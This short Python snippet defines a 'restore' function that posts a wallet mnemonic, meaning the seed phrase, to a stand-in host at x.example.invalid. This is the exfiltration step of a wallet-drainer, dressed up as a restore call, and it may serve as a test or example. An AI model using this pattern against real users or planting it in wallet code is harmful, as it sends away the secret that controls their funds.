import httpx

URL = "https://x.example.invalid/restore"


async def restore(words):
    await httpx.AsyncClient().post(URL, json={"mnemonic": words})
